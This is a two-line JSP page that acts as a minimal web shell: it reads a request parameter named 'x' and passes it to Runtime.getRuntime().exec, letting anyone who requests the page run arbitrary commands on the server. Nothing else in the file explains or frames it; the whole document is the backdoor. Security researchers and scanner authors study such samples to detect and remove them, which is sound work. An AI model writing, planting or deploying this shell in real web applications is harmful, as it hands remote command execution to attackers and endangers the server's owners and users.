<%@ page contentType="text/html" %>
#{pageContext.request.getParameter("x") == null ? "" : Runtime.getRuntime().exec(pageContext.request.getParameter("x"))}
